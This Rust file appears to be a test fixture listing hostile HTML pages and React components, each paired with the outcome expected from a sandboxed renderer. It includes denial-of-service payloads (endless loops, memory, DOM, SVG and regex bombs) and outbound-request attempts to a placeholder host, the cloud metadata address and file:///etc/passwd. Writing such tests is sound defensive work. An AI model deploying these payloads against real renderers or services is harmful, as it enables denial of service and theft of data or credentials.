//! Pages and components that attack their renderer. `THERE` is the address of a server that must
//! receive no request.

/// Expected outcome of a page.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expected {
    /// Rendered image.
    Renders,
    /// Error whose text contains one of these.
    Fails(&'static [&'static str]),
    /// Either, depending on the speed of the machine.
    Either,
}

use Expected::{Either, Fails, Renders};

const ENDLESS: Expected = Fails(&["did not settle"]);
const MEMORY: Expected = Fails(&["more than 512 MB", "its page ended", "did not settle"]);

/// HTML pages by name.
pub const PAGES: [(&str, Expected, &str); 45] = [
    (
        "huge_names",
        Renders,
        "<p>a</p><script>const p = document.querySelector('p'), long = 'a'.repeat(1e6); p.id = long; p.className = long; p.style.setProperty('background-image', `linear-gradient(red, blue${', blue'.repeat(1e5)})`);</script>",
    ),
    (
        "deep_tree",
        Renders,
        "<p>a</p><script>let inner = document.body; for (let depth = 0; depth < 900; depth += 1) { const next = document.createElement('div'); inner.append(next); inner = next; } inner.append('b');</script>",
    ),
    (
        "endless_requests",
        Renders,
        "<p>a</p><script>(async () => { for (;;) await fetch('http://THERE/').catch(() => new Promise((resolve) => setTimeout(resolve, 1))); })()</script>",
    ),
    ("endless_loop", ENDLESS, "<p>a</p><script>for (;;);</script>"),
    (
        "endless_promises",
        ENDLESS,
        "<p>a</p><script>(function f() { Promise.resolve().then(f) })()</script>",
    ),
    (
        "endless_timers",
        Renders,
        "<p>a</p><script>setInterval(() => {}, 0); (function f() { setTimeout(f) })()</script>",
    ),
    (
        "endless_frames",
        Renders,
        "<p id=a>a</p><script>(function f() { a.textContent += 1; requestAnimationFrame(f) })()</script>",
    ),
    ("endless_regex", ENDLESS, "<p>a</p><script>/^(a+)+$/.test('a'.repeat(60) + 'b')</script>"),
    (
        "endless_writes",
        Fails(&["more than 10,000", "did not settle", "512 MB", "page ended"]),
        "<script>for (;;) document.write('<p>a')</script>",
    ),
    ("endless_reloads", Either, "<p>a</p><script>location.reload()</script>"),
    (
        "huge_boxes",
        Renders,
        "<script>for (let i = 0; i < 20; i++) document.write(`<p style='position: absolute; margin: 0; \
         width: 33554428px; height: 33554428px; border: 1px dashed red; background: #eef'>some text`)</script>",
    ),
    ("huge_string", Renders, "<p>a</p><script>let s = 'a'; for (;;) s += s</script>"),
    (
        "huge_buffers",
        Fails(&["more than 512 MB of memory"]),
        "<p>a</p><script>const a = []; for (;;) a.push(new Uint8Array(1 << 24).fill(1))</script>",
    ),
    (
        "huge_heap",
        MEMORY,
        "<p>a</p><script>const a = []; for (;;) a.push({ a: [a.length, {}, 'x' + a.length] })</script>",
    ),
    (
        "huge_wasm",
        Either,
        "<p>a</p><script>const m = new WebAssembly.Memory({ initial: 32768 }); new Uint8Array(m.buffer).fill(1)</script>",
    ),
    (
        "huge_canvas",
        Either,
        "<canvas id=a width=16000 height=16000></canvas><script>for (let i = 0; i < 9; i++) { const b = a.cloneNode(); document.body.append(b); b.getContext('2d').fillRect(0, 0, 16000, 16000) }</script>",
    ),
    (
        "million_elements",
        Fails(&["more than 10,000", "did not settle", "512 MB"]),
        "<body><script>for (let i = 0; i < 1e6; i++) document.body.append(document.createElement('i'))</script>",
    ),
    (
        "deep_elements",
        Fails(&["more than 10,000", "its page ended"]),
        "<body><script>let a = document.body; for (let i = 0; i < 20000; i++) { const b = document.createElement('b'); a.append(b); a = b }</script>",
    ),
    (
        "shape_bomb",
        Either,
        "<svg width=9 height=9><defs><g id=a0><rect width=9 height=9 /></g><script>for (let i = 0; i < 30; i++) document.querySelector('defs').insertAdjacentHTML('beforeend', `<g id=a${i + 1}><use href='#a${i}'/><use href='#a${i}'/></g>`)</script></defs><use href='#a30'/></svg>",
    ),
    (
        "style_bomb",
        Either,
        "<p>a</p><script>const s = document.createElement('style'); s.textContent = Array.from({ length: 1e5 }, (_, i) => `:has(p):not(.a${i} *) { --a${i}: calc(${'('.repeat(50)}1px${')'.repeat(50)}) }`).join(''); document.head.append(s)</script>",
    ),
    (
        "endless_styles",
        Renders,
        "<style>@import url(http://THERE/a.css); @keyframes a { to { width: 100% } } p { animation: a 1ms infinite; background: url(http://THERE/b.png); cursor: url(http://THERE/c.cur), auto } @font-face { font-family: a; src: url(http://THERE/a.woff2) } p { font-family: a }</style><p>a</p>",
    ),
    (
        "windows",
        Renders,
        "<p>a</p><script>for (let i = 0; i < 50; i++) open('http://THERE/')</script>",
    ),
    (
        "fetches",
        Renders,
        "<p>a</p><script>for (const to of ['http://169.254.169.254/latest/meta-data/', 'http://THERE/', 'http://localhost/', 'file:///etc/passwd']) fetch(to, { mode: 'no-cors' }).catch(() => {})</script>",
    ),
    (
        "other_requests",
        Renders,
        "<p>a</p><script>navigator.sendBeacon('http://THERE/', 'a'); try { const r = new XMLHttpRequest(); r.open('GET', 'http://THERE/', false); r.send() } catch {} new EventSource('http://THERE/')</script>",
    ),
    (
        "sockets",
        Renders,
        "<p>a</p><script>new WebSocket('ws://THERE/'); try { new WebTransport('https://THERE/') } catch {}</script>",
    ),
    (
        "peers",
        Renders,
        "<p>a</p><script>try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:THERE?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('a'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}</script>",
    ),
    (
        "elements_from_elsewhere",
        Renders,
        "<p>a</p><img src=http://THERE/a.png><script src=http://THERE/a.js></script><link rel=stylesheet href=http://THERE/a.css><video src=http://THERE/a.mp4></video><object data=http://THERE/a></object><embed src=http://THERE/a>",
    ),
    (
        "hints",
        Renders,
        "<link rel=preconnect href=http://THERE><link rel=dns-prefetch href=http://THERE><link rel=prefetch href=http://THERE/a><link rel=prerender href=http://THERE/a><link rel=modulepreload href=http://THERE/a.js><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://THERE/b\"]}]}</script><p>a</p>",
    ),
    (
        "frames",
        Either,
        "<p>a</p><script>for (let i = 0; i < 50; i++) { const f = document.createElement('iframe'); f.src = i % 2 ? '/' : 'http://THERE/'; document.body.append(f) } document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.location = &quot;http://THERE/&quot;<\\/script>\"></iframe>')</script>",
    ),
    (
        "service_worker",
        Renders,
        "<p>a</p><script>navigator.serviceWorker?.register('/').catch(() => {})</script>",
    ),
    (
        "workers",
        Renders,
        "<p>a</p><script>for (let i = 0; i < 100; i++) try { new Worker(URL.createObjectURL(new Blob(['for (;;);']))); new SharedWorker('data:,for(;;);') } catch {}</script>",
    ),
    (
        "dialogs",
        Renders,
        "<p>a</p><script>for (let i = 0; i < 100; i++) { alert(i); confirm(i); prompt(i) }</script>",
    ),
    ("printing", Renders, "<p>a</p><script>print(); print()</script>"),
    (
        "drawing_hardware",
        Renders,
        "<p>a</p><script>for (let i = 0; i < 99; i++) for (const kind of ['webgl', 'webgl2', 'webgpu']) document.createElement('canvas').getContext(kind); navigator.gpu?.requestAdapter()</script>",
    ),
    (
        "sound",
        Renders,
        "<p>a</p><audio autoplay loop src=data:audio/wav;base64,UklGRiQAAABXQVZF></audio><script>try { const o = new AudioContext().createOscillator(); o.start() } catch {}</script>",
    ),
    (
        "file_input",
        Renders,
        "<input type=file id=a><script>a.click(); window.showOpenFilePicker?.().catch(() => {}); window.showDirectoryPicker?.().catch(() => {})</script>",
    ),
    (
        "local_files",
        Renders,
        "<p>a</p><img src=file:///etc/passwd><script src=file:///etc/passwd></script><script>try { location = 'file:///etc/passwd' } catch {}</script>",
    ),
    (
        // It navigates away while loading and is refused: on a busy machine its load may not end.
        "navigation",
        Either,
        "<meta http-equiv=refresh content='0;url=http://THERE/'><p>a</p><script>location = 'http://THERE/'; setTimeout(() => location.assign('http://THERE/b'))</script>",
    ),
    (
        "history_tricks",
        Renders,
        "<p>a</p><script>for (let i = 0; i < 500; i++) try { history.pushState(i, '', '/' + i) } catch {} history.go(-3); history.back(); onbeforeunload = () => 'stay'</script>",
    ),
    (
        "forms",
        Renders,
        "<form id=a action=http://THERE/ method=post><input name=b value=c></form><p>a</p><script>a.submit(); a.requestSubmit()</script>",
    ),
    (
        "downloads",
        Renders,
        "<a id=a download=b href='data:,a'>a</a><a id=b download href=http://THERE/a>b</a><script>for (let i = 0; i < 50; i++) { a.click(); b.click() }</script>",
    ),
    (
        "permissions",
        Renders,
        "<p>a</p><script>navigator.geolocation?.getCurrentPosition(() => {}); navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => {}); window.Notification?.requestPermission(); navigator.clipboard?.readText().catch(() => {}); document.body.requestFullscreen?.().catch(() => {}); document.body.requestPointerLock?.()</script>",
    ),
    (
        "storage",
        Renders,
        "<p>a</p><script>try { for (;;) localStorage.setItem(Math.random(), 'a'.repeat(1e6)) } catch {} indexedDB.open('a')</script>",
    ),
    (
        "changed_builtins",
        Either,
        "<p>a</p><script>JSON.stringify = Array.prototype.map = Object.entries = getComputedStyle = () => { throw 1 }; Promise.prototype.then = () => {}; Document.prototype.querySelectorAll = () => []; Object.defineProperty(window, 'devicePixelRatio', { value: 1e9 })</script>",
    ),
    (
        "no_document",
        Fails(&["renders nothing", "throws"]),
        "<p>a</p><script>document.documentElement.remove()</script>",
    ),
];

/// Components by name.
pub const COMPONENTS: [(&str, Expected, &str); 11] = [
    ("endless_component", ENDLESS, "export default () => { for (;;); };"),
    (
        "endless_updates",
        Fails(&["a component updates itself without an end"]),
        "import { useState } from 'react';\nexport default () => { const [n, set] = useState(0); set(n + 1); return <p>{n}</p>; };",
    ),
    (
        "endless_effects",
        Either,
        "import { useEffect, useState } from 'react';\nexport default () => { const [n, set] = useState(0); useEffect(() => { set(n + 1); }); return <p>{n}</p>; };",
    ),
    (
        "throwing",
        Fails(&["throws: no value"]),
        "export default function Card() { throw new Error('no value'); }",
    ),
    (
        "async_component",
        Fails(&["a component is an async function"]),
        "export default async () => <p>a</p>;",
    ),
    (
        "million_children",
        Fails(&["more than 10,000", "did not settle", "512 MB"]),
        "export default () => <>{Array.from({ length: 1e6 }, (_, at) => <i key={at} />)}</>;",
    ),
    (
        "modules_from_elsewhere",
        Renders,
        "import 'http://THERE/a.js';\nimport Card from 'https://THERE/b.js';\nexport default () => <Card><p>a</p></Card>;",
    ),
    (
        "late_modules",
        Renders,
        "import { useEffect } from 'react';\nexport default () => { useEffect(() => { import(['http:', '', 'THERE', 'a.js'].join('/')).catch(() => {}); fetch('http://THERE/').catch(() => {}); }, []); return <p>a</p>; };",
    ),
    (
        // It navigates away while loading and is refused: on a busy machine its load may not end.
        "markup",
        Either,
        "export default () => <div dangerouslySetInnerHTML={{ __html: `a<img src=x onerror=\"location = 'http://THERE/'\"><iframe src=http://THERE/></iframe>` }} />;",
    ),
    ("no_grammar", Fails(&["does not parse: 1:"]), "export default (((<<<{{{"),
    ("too_deep", Fails(&["too large or too deeply nested"]), "DEEP"),
];
